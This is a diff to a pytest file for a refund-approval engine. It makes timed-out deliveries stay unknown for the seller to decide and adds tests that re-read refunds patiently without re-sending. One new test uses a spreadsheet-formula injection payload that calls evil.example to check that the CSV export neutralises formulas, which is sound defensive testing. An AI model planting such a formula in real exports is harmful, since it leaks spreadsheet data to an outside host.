@@ -122,6 +122,7 @@ def shop(store):
 
 def engine_for(platform, store, shop, **kw):
     kw.setdefault("settle_s", 0)
+    kw.setdefault("patience_s", 0)
     return ActionEngine(platform, store, shop_id=shop.id, throttle=Throttle(1000), **kw)
 
 
@@ -186,7 +187,7 @@ def test_refund_changed_is_read_again_and_reported_not_retried(store, shop):
     assert report.retryable_ids == [1]
 
 
-@pytest.mark.parametrize("landed, outcome", [(True, Outcome.DONE), (False, Outcome.NOT_APPLIED)])
+@pytest.mark.parametrize("landed, outcome", [(True, Outcome.DONE), (False, Outcome.UNKNOWN)])
 def test_uncertain_delivery_is_judged_by_reading_the_refund(store, shop, landed, outcome):
     platform = FakePlatform(store, [R(1), R(2)])
     error = TransportError("no answer before the timeout", maybe_processed=True)
@@ -198,7 +199,12 @@ def test_uncertain_delivery_is_judged_by_reading_the_refund(store, shop, landed,
     assert report.results[0].outcome is outcome
     assert len([a for a in platform.actions if a[1]["refundId"] == 1]) == 1  # never re-sent
     assert progress[0] == (1, Outcome.UNKNOWN) and progress[-1] == (1, outcome)
-    assert store.journal_entries(shop.id)[0].state == ("done" if landed else "failed")
+    # an unchanged refund is no proof the request did not land: the seller decides, with evidence
+    assert store.journal_entries(shop.id)[0].state == ("done" if landed else "unknown")
+    if not landed:
+        message = report.results[0].message
+        assert "no answer before the timeout" in message and "不会自动再次发送" in message
+        assert not Outcome.UNKNOWN.retryable and report.retryable_ids == []
 
 
 def test_garbled_answer_is_uncertain_too(store, shop):
@@ -221,9 +227,15 @@ def test_uncertain_and_unreadable_stays_unknown_for_the_next_start(store, shop):
     plan = engine.prepare([1], Approve())
     assert plan.actions == () and plan.skipped[0].refund_id == 1
     platform.unreadable.clear()
-    plan = engine.prepare([1], Approve())
-    assert plan.reconciled[0].outcome is Outcome.NOT_APPLIED and plan.reconciled[0].reconciled
-    assert len(plan.actions) == 1  # the user asked again: it may be sent now
+    plan = engine.prepare([1], Approve())  # readable, still unchanged: still the seller's decision
+    assert plan.reconciled[0].outcome is Outcome.UNKNOWN and plan.reconciled[0].reconciled
+    assert plan.actions == () and "商家后台" in plan.skipped[0].reason
+    # the seller checked the seller backend and says it was not applied: planned again
+    plan = engine.prepare([1], Approve(), release_uncertain=True)
+    assert plan.reconciled[0].outcome is Outcome.NOT_APPLIED and len(plan.actions) == 1
+    entry = store.journal_entries(shop.id)[0]
+    assert entry.state == "failed" and entry.result["decidedBy"] == "seller"
+    assert entry.result["evidence"]["reads"] >= 1
 
 
 def test_a_request_that_certainly_was_not_sent_fails_plainly(store, shop):
@@ -280,12 +292,12 @@ def test_reconcile_after_a_crash(store, shop):
     platform.refunds[3].update(status=70, updateTime=platform.refunds[3]["updateTime"] + 9)
     results = {r.refund_id: r for r in engine.reconcile()}
     assert results[1].outcome is Outcome.DONE
-    assert results[2].outcome is Outcome.NOT_APPLIED
+    assert results[2].outcome is Outcome.UNKNOWN  # unchanged: maybe still being processed
     assert results[3].outcome is Outcome.CHANGED
     assert results[4].outcome is Outcome.CANCELLED  # planned, never sent
     assert all(r.reconciled for r in results.values())
     assert platform.actions == []  # nothing re-sent
-    assert store.journal_open_entries(shop.id) == []
+    assert [(e.refund_id, e.state) for e in store.journal_open_entries(shop.id)] == [(2, "unknown")]
 
 
 def test_reconcile_waits_for_the_settle_time(store, shop):
@@ -302,7 +314,58 @@ def test_reconcile_waits_for_the_settle_time(store, shop):
     stop.set()  # the wait is cut short: the entry stays open
     assert engine.reconcile(cancelled=stop) == []
     assert store.journal_open_entries(shop.id)[0].state == "sent"
-    assert engine.reconcile()[0].outcome is Outcome.NOT_APPLIED
+    now[0] += 0.2  # the settle time has passed
+    assert engine.reconcile()[0].outcome is Outcome.UNKNOWN
+
+
+def test_a_slow_platform_is_read_until_the_action_shows_and_never_sent_twice(store, shop):
+    """The platform takes 13 s to carry an approval out; the answer never comes. The refund reads
+    unchanged for a while: that is no proof, so it is read again (never re-sent) until it shows."""
+    platform = FakePlatform(store, [R(1)])
+    now = [1_000_000.0]
+    reads = []
+    engine = engine_for(platform, store, shop, settle_s=10, patience_s=60, clock=lambda: now[0])
+    engine.throttle.pause = lambda seconds, cancelled=None: now.__setitem__(0, now[0] + seconds) or True
+    plan = engine.prepare([1], Approve())
+    platform.script[1] = [TransportError("read timed out", maybe_processed=True)]
+    sent_at = []
+    original_read = platform.refund_detail
+
+    def detail(rid):
+        reads.append(now[0])
+        if sent_at and now[0] >= sent_at[0] + 13:  # the held request is carried out at last
+            if platform.refunds[rid]["status"] == 10:
+                platform._apply("open.seller.order.refund.approve", rid)
+        return original_read(rid)
+
+    platform.refund_detail = detail
+    platform.on_action = lambda rid: sent_at.append(now[0])
+    report = engine.execute(plan)
+    assert report.results[0].outcome is Outcome.DONE
+    assert len(platform.actions) == 1
+    assert len(reads) >= 2 and reads[-1] - sent_at[0] >= 13  # read more than once, patiently
+    assert store.journal_entries(shop.id)[0].state == "done"
+
+
+def test_patience_spent_leaves_the_evidence_for_the_seller(store, shop):
+    platform = FakePlatform(store, [R(1)])
+    now = [2_000_000.0]
+    engine = engine_for(platform, store, shop, settle_s=1, patience_s=30, clock=lambda: now[0])
+    engine.throttle.pause = lambda seconds, cancelled=None: now.__setitem__(0, now[0] + seconds) or True
+    plan = engine.prepare([1], Approve())
+    platform.script[1] = [TransportError("read timed out", maybe_processed=True)]
+    result = engine.execute(plan).results[0]
+    assert result.outcome is Outcome.UNKNOWN and len(platform.actions) == 1
+    entry = store.journal_entries(shop.id)[0]
+    assert entry.state == "unknown" and entry.error == "read timed out"
+    evidence = entry.result["evidence"]
+    assert evidence["reads"] >= 3 and evidence["sendError"] == "read timed out"
+    assert evidence["lastReadAt"] - evidence["sentAt"] >= 30_000
+    assert "read timed out" in result.message and str(evidence["reads"]) in result.message
+    # a restart much later reads once more and still does not send
+    now[0] += 3600
+    again = engine.reconcile()
+    assert again[0].outcome is Outcome.UNKNOWN and len(platform.actions) == 1
 
 
 def test_shared_reject_reasons(store, shop):
@@ -363,6 +426,26 @@ def test_audit_log_ids_stay_whole_and_reject_details_read_as_words(store, shop, 
         table = list(csv.reader(fh))
     assert table[1][3] == f'="{big}"'  # Excel keeps all 16 digits
     assert table[1][4] == "拒绝" and table[1][5] == "原因编号 3；说明：商品已签收"
+
+
+def test_action_log_csv_never_runs_a_platform_text_as_a_formula_and_keeps_long_ids(store, tmp_path):
+    long_id = 2_100_000_012_345_678  # 16 digits: Excel would round it as a number
+    hostile = '=HYPERLINK("https://evil.example/?x="&A1,"点此查看")'
+    shop = store.add_shop(base_url="http://127.0.0.1:1", seller_id=2, name=hostile)  # the platform's
+    platform = FakePlatform(store, [R(long_id)])
+    platform.script[long_id] = [BusinessRejected(hostile, result=21)]
+    engine = engine_for(platform, store, shop)
+    engine.execute(engine.prepare([long_id], Approve()))
+    out = tmp_path / "audit.csv"
+    assert export_csv(audit_rows(store), out) == 1
+    with out.open(encoding="utf-8-sig", newline="") as fh:
+        header, row = list(csv.reader(fh))
+    assert row[3] == f'="{long_id}"'
+    assert row[2] == "'" + hostile  # the shop's name kept whole, shown as text
+    assert hostile in row[7]  # the platform's refusal, within the message
+    for cell in row:  # no cell of the file may start a formula
+        assert not cell.startswith(("+", "-", "@", "\t", "\r")), cell
+        assert not cell.startswith("=") or cell == f'="{long_id}"', cell
 
 
 def test_throttle_paces_and_backs_off():
